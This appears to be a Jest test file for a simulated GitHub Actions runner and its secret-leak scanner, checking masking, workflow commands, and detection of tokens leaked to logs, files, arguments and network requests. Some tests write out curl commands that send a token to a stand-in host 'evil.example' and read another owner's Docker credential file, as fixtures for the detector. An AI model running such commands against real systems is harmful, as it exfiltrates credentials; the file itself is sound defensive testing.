import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from '@jest/globals'
import { needs } from '../../__tests__/support/needs.ts'
import { closing, simulate } from '../../__tests__/support/simulate.ts'
import { enterprise, githubCom } from '../github/servers.ts'
import { classicPat, githubToken } from '../github/tokens.ts'
import { type Finding, formsOf, search } from './leak-scan.ts'
import { Masks } from './masks.ts'
import { StepLog } from './workflow-commands.ts'

const folders: string[] = []
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true })
})

const TOKEN_INPUT = `token: { default: '\${{ github.token }}' }`

/** A throw-away action. In: the source of main and post, which find node's modules by `import`. */
function action(main: string, post?: string, inputs = TOKEN_INPUT): string {
  const folder = mkdtempSync(join(tmpdir(), 'action-'))
  folders.push(folder)
  const runs = `using: node24, main: main.mjs${post === undefined ? '' : ', post: post.mjs'}`
  writeFileSync(join(folder, 'action.yml'), `name: tiny\ninputs:\n  ${inputs}\nruns: { ${runs} }\n`)
  const tools = `import { appendFileSync, chmodSync, mkdirSync, writeFileSync } from 'node:fs'
import { execFileSync, spawnSync } from 'node:child_process'
const env = process.env
const token = env.INPUT_TOKEN
const file = (name, text) => appendFileSync(env[name], text)
`
  writeFileSync(join(folder, 'main.mjs'), tools + main)
  if (post !== undefined) writeFileSync(join(folder, 'post.mjs'), tools + post)
  return folder
}

describe('the runner', () => {
  it('gives an action its inputs and a clean environment, without GITHUB_TOKEN', async () => {
    const token = githubToken()
    const inputs = `${TOKEN_INPUT}\n  on-denied: { default: fail }\n  two words: {}`
    const folder = action(
      `mkdirSync(env.RUNNER_TEMP + '/kept')
       console.log(JSON.stringify({ denied: env['INPUT_ON-DENIED'], words: env.INPUT_TWO_WORDS, own: token?.length, names: Object.keys(env) }))`,
      undefined,
      inputs
    )
    const { job } = await simulate({ tokens: [token] }, { action: folder })
    const step = await job.uses({ 'two words': 'here' })
    const told = JSON.parse(step.stdout)
    expect(told).toMatchObject({ denied: 'fail', words: 'here', own: token.value.length })
    expect(told.names).toEqual(
      expect.arrayContaining(['GITHUB_OUTPUT', 'RUNNER_TEMP', 'GITHUB_EVENT_PATH', 'HTTPS_PROXY'])
    )
    expect(told.names).not.toContain('GITHUB_TOKEN')
    expect(told.names.filter((name: string) => /npm|JEST|NODE_OPTIONS/i.test(name))).toEqual([])
  })

  it('hands state to the posts, the last one first, even after a failure, with what was exported meanwhile', async () => {
    const folder = action(
      `file('GITHUB_STATE', 'who<<END\\n' + env.INPUT_WHO + '\\nEND\\n')
       file('GITHUB_ENV', 'FROM_' + env.INPUT_WHO + '=main\\n')
       process.exitCode = env.INPUT_WHO === 'b' ? 1 : 0`,
      `console.log('post of', env.STATE_who, 'sees', env.FROM_a, env.FROM_b)
       file('GITHUB_ENV', 'FROM_' + env.STATE_who + '=post\\n')`,
      'who: {}'
    )
    const { job } = await simulate({}, { action: folder })
    await job.uses({ who: 'a' })
    expect((await job.uses({ who: 'b' })).exitCode).toBe(1)
    const posts = await job.end()
    expect(posts.map(({ log }) => log)).toEqual(['post of b sees main main\n', 'post of a sees main post\n'])
    expect(job.status).toBe('failure')
  })

  it('masks a value, its base64 and the base64 of what ends in it', async () => {
    const folder = action(
      `console.log('::add-mask::hunter2-hunter2')
       console.log('is hunter2-hunter2', Buffer.from('hunter2-hunter2').toString('base64'))
       for (const user of ['', 'x', 'xy']) console.log(Buffer.from(user + ':hunter2-hunter2').toString('base64'))`
    )
    const { job } = await simulate({}, { action: folder })
    const step = await job.uses()
    expect(step.masks).toEqual(['hunter2-hunter2'])
    expect(step.log.match(/\*\*\*/g)).toHaveLength(5)
    expect(step.log).not.toContain('hunter2')
  })

  it('refuses an empty mask and commands that went', async () => {
    const { job } = await simulate({}, { action: action(`console.log('::add-mask::')`) })
    await expect(job.uses()).rejects.toThrow('an empty value was masked')
    const { job: other } = await simulate({}, { action: action(`console.log('::set-output name=a::b')`) })
    await expect(other.uses()).rejects.toThrow('set-output')
  })

  it('reads annotations, outputs, groups and stopped commands as the page does', async () => {
    const folder = action(
      `console.log('::debug::quiet\\n::group::Parts\\n::error title=A%3A B::line 1%0Aline 2\\n::endgroup::')
       console.log('::stop-commands::pause\\n::warning::not now\\n::pause::\\n::notice::now')
       file('GITHUB_OUTPUT', 'plain=a=b\\nlong<<E\\n1\\n2\\nE\\n')
       file('GITHUB_STEP_SUMMARY', '# done')`
    )
    for (const debug of [false, true]) {
      const { job } = await simulate({}, { action: folder, debug })
      const step = await job.uses()
      expect(step.annotations).toEqual([
        { level: 'error', title: 'A: B', message: 'line 1\nline 2' },
        { level: 'notice', message: 'now' }
      ])
      expect(step).toMatchObject({ outputs: { plain: 'a=b', long: '1\n2' }, summary: '# done' })
      expect(step.log.startsWith(debug ? '##[debug]quiet\n▼ Parts' : '▼ Parts')).toBe(true)
      expect(step.log).toContain('::warning::not now')
    }
  })

  it('gives the token of a workflow the permission that it asks for, and refuses what it does not simulate', async () => {
    const { simulator, job } = await simulate({ tokens: [githubToken()] }, { action: action('') })
    const file = join(job.folder.temp, 'workflow.yml')
    const plays = (permissions: string, step: string) => {
      writeFileSync(file, `permissions: { ${permissions} }\njobs: { build: { steps: [{ ${step} }] } }\n`)
      return job.workflow(file, 'build')
    }
    for (const [permissions, packages] of [
      ['packages: read', 'read'],
      ['contents: read', 'none']
    ] as const) {
      await plays(permissions, 'run: exit 0')
      expect(simulator.world.tokens[0]?.packages).toBe(packages)
    }
    await expect(plays('', 'uses: actions/checkout@v5')).rejects.toThrow('an action that is not simulated')
    await expect(plays('', 'run: exit 0, timeout-minutes: 1')).rejects.toThrow('"timeout-minutes" of the step')
  })

  it('hands out no engine that a job was not given', async () => {
    const { job } = await simulate()
    expect((await job.run('type docker podman buildah skopeo git; true')).stdout).toBe('')
  })

  it('empties RUNNER_TEMP when the job ends', async () => {
    const { job } = await simulate()
    await job.run('echo something >"$RUNNER_TEMP/kept"')
    await job.end()
    const { job: after } = await simulate({}, { env: { OLD: job.folder.runnerTemp } })
    expect((await after.run('ls "$OLD" | wc -l')).stdout.trim()).toBe('0')
  })
})

describe('the leak search', () => {
  const token = classicPat({ name: 'mine' })
  const planted = classicPat({ name: 'friend' }).value

  it.each([0, 1, 2, 3, 4])('knows a token in base64 after %i characters, with anything after it', before => {
    for (const value of ['a-secret-of-16-ch', 'a-secret-of-16-cha', 'a-secret-of-16-char']) {
      const encoded = Buffer.from(`${'u'.repeat(before)}${value}"}`).toString('base64')
      expect(formsOf(value).some(([, needle]) => encoded.includes(needle))).toBe(true)
    }
  })

  it.each<[string, (value: string) => string, string]>([
    ['as it is', value => value, 'plain'],
    ['as a registry token', value => Buffer.from(value).toString('base64'), 'base64'],
    ['in lines', value => Buffer.from(`x:${value}`).toString('base64').replace(/.{20}/g, '$&\n'), 'base64'],
    ['as a part of an address', value => Buffer.from(`${value}??`).toString('base64url'), 'base64'],
    ['percent-encoded', value => encodeURIComponent(value), 'percent'],
    ['in hex', value => Buffer.from(value).toString('hex'), 'hex'],
    ['cut in the middle', value => value.slice(0, 25), 'part']
  ])('knows one %s', (_, write, form) => {
    const value = form === 'percent' ? 'a/password' : token.value
    const secret = { name: 'mine', value, planted: false, hosts: [] }
    const found = { secret: 'mine', form, where: 'here' }
    expect(search([{ where: 'here', text: `a ${write(value)} b` }], [secret])).toEqual([found])
  })

  it('looks into every line of a log but the masks, those of stopped commands included', () => {
    const log = new StepLog(new Masks(), false)
    for (const line of ['::add-mask::1', '::debug::2', '::stop-commands::x', '::add-mask::3', '::x::', '4'])
      log.line(line)
    expect(log.exposed.stdout).toEqual(['::debug::2', '::stop-commands::x', '::add-mask::3', '::x::', '4'])
  })

  it('finds one wherever a step may leave it', async () => {
    const places: [string, RegExp][] = [
      ['console.log(token)', /^mine \(plain\) in stdout of/],
      ['console.error(encodeURIComponent(token))', /in stderr of/],
      [`file('GITHUB_OUTPUT', 'a=' + token + '\\n')`, /in GITHUB_OUTPUT of/],
      [
        `file('GITHUB_STATE', 'a=' + Buffer.from(token).toString('base64url') + '\\n')`,
        /\(base64\) in GITHUB_STATE of/
      ],
      [`file('GITHUB_ENV', 'DOCKER_AUTH_CONFIG=' + token + '\\n')`, /in GITHUB_ENV of/],
      [`file('GITHUB_PATH', '/' + token + '\\n')`, /in GITHUB_PATH of/],
      [`file('GITHUB_STEP_SUMMARY', token)`, /in GITHUB_STEP_SUMMARY of/],
      [`writeFileSync('out', token, { mode: 0o600 })`, /in GITHUB_WORKSPACE\/out \(mode 0600\)$/],
      [`writeFileSync(env.HOME + '/auth', token, { mode: 0o644 })`, /in HOME\/auth \(mode 0644\)$/],
      [`writeFileSync(env.RUNNER_TEMP + '/a', token, { mode: 0o640 })`, /in RUNNER_TEMP\/a \(mode 0640\)$/],
      [`writeFileSync(env.TMPDIR + '/x', token.slice(1, -1), { mode: 0o644 })`, /\(part\) in TMPDIR\/x \(mode 0644\)$/],
      [`mkdirSync(env.RUNNER_TEMP + '/' + token)`, /in the name of RUNNER_TEMP/],
      [`spawnSync('docker', ['login', '-p', token])`, /in the arguments of docker$/],
      ['', /in INPUT_TOKEN in the environment of docker$/]
    ]
    const found: Finding[] = []
    const engines = [{ name: 'docker', fake: {} }]
    const tolerate = (finding: Finding) => found.push(finding) > 0
    const main = places.map(([statement]) => statement).join('\n')
    const { job } = await simulate({ tokens: [token] }, { action: action(main), engines, tolerate })
    await job.uses({ token: token.value })
    const lines = found.map(({ secret, form, where }) => `${secret} (${form}) in ${where}`)
    const missed = places.filter(([, where]) => !lines.some(line => where.test(line)))
    expect({ missed, lines: lines.length }).toEqual({ missed: [], lines: places.length })
  })

  it('fails the test that leaves one', async () => {
    const { job } = await simulate({ tokens: [token] }, { action: action('console.log(token)') })
    await expect(job.uses({ token: token.value })).rejects.toThrow(/mine \(plain\) in stdout/)
    await job.abandon()
  })

  needs('curl').it(
    'finds one sent to another host, to a proxy, over plain http or in an address, and not where it belongs',
    async () => {
      const { simulator, job } = await simulate(
        { tokens: [token], foreign: ['evil.example'] },
        { tools: ['curl'], secrets: { PAT: token } }
      )
      // The script and curl's arguments are no part of what is searched: curl is not recorded.
      const send = (what: string) =>
        job.run(`curl -s --cacert "$SSL_CERT_FILE" ${what}`).catch((error: Error) => error.message)
      const secret = `\${{ secrets.PAT }}`
      expect(await send(`-u x:${secret} https://evil.example/`)).toMatch(/mine \(base64\) in a GET to evil.example/)
      expect(await send(`-H 'X-Own: ${secret}' --proxy-header 'X-Own: ${secret}' https://evil.example/`)).toMatch(
        /CONNECT to evil.example/
      )
      expect(await send(`-x $HTTP_PROXY -d ${secret} http://ghcr.io/token`)).toMatch(
        /mine \(plain\) in a POST to ghcr.io/
      )
      expect(await send(`'https://ghcr.io/token?service=ghcr.io&account=${secret}'`)).toMatch(
        /the address of a GET to ghcr.io/
      )
      expect(await send(`-u x:${secret} 'https://ghcr.io/token?service=ghcr.io' -o /dev/null`)).toMatchObject({
        exitCode: 0
      })
      await expect(closing(simulator)).rejects.toThrow('anonymous /token')
    }
  )

  needs('curl').it("finds another server's token sent to this one's registry", async () => {
    const foreign = classicPat({ server: 'https://ghe.example' })
    const { job } = await simulate(
      { tokens: [foreign], servers: [githubCom, enterprise('ghe.example')] },
      { tools: ['curl'], secrets: { PAT: foreign } }
    )
    const command = `curl -s --cacert "$SSL_CERT_FILE" -u 'x:\${{ secrets.PAT }}' 'https://ghcr.io/token?service=ghcr.io'`
    await expect(job.run(command)).rejects.toThrow('in a GET to ghcr.io')
  })

  it('lets the store hold it until the last post, and not after', async () => {
    const store = `mkdirSync(env.HOME + '/.docker', { mode: 0o700 }); writeFileSync(env.HOME + '/.docker/config.json', token, { mode: 0o600 })`
    const { job } = await simulate({ tokens: [token] }, { action: action(store) })
    await job.uses({ token: token.value })
    await expect(job.end()).rejects.toThrow(/HOME\/.docker\/config.json \(mode 0600\), after the last post/)
    const { job: kept } = await simulate({ tokens: [token] }, { action: action(store), leftovers: /config\.json/ })
    await kept.uses({ token: token.value })
    await kept.end()
  })

  needs('docker').it('finds one in the store of a credential helper at the end', async () => {
    const files = { '.docker/config.json': '{"credsStore":"keys"}' }
    const { job } = await simulate({ tokens: [token] }, { engines: ['docker'], helpers: [{ name: 'keys' }], files })
    await job.run('printf %s "$PAT" | docker login ghcr.io -u x --password-stdin', { env: { PAT: token.value } })
    await expect(job.end()).rejects.toThrow('the helper keys/ghcr.io')
  })

  it("leaves another owner's credential alone at home, and finds it elsewhere", async () => {
    const files = { '.docker/config.json': { text: planted, mode: 0o644 } }
    const { job } = await simulate({}, { files, planted: { friend: planted } })
    await job.run('true')
    await expect(job.run('cat "$HOME/.docker/config.json"')).rejects.toThrow('friend (plain) in stdout')
  })
})
